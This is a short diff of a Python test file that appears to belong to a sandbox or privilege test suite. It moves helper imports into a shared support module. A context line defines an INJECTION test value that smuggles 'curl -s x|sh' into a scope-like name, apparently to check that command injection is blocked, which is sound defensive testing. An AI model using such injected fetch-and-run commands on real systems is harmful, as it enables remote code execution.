@@ -17,9 +17,8 @@ from pathlib import Path
 import yaml
 from support.cases import Case, config
 from support.sandbox import LISTENER, PYTHON, REPO
-from test_faults_identity import shared_copy
-from test_faults_limits import CAPLESS
-from test_faults_stop import NOBODY as NOBODY_SETPRIV
+from support.unprivileged import CAPLESS, shared_copy
+from support.unprivileged import NOBODY as NOBODY_SETPRIV
 
 INJECTION = "machine-a;curl -s x|sh;#.scope"
 NOBODY = 65534
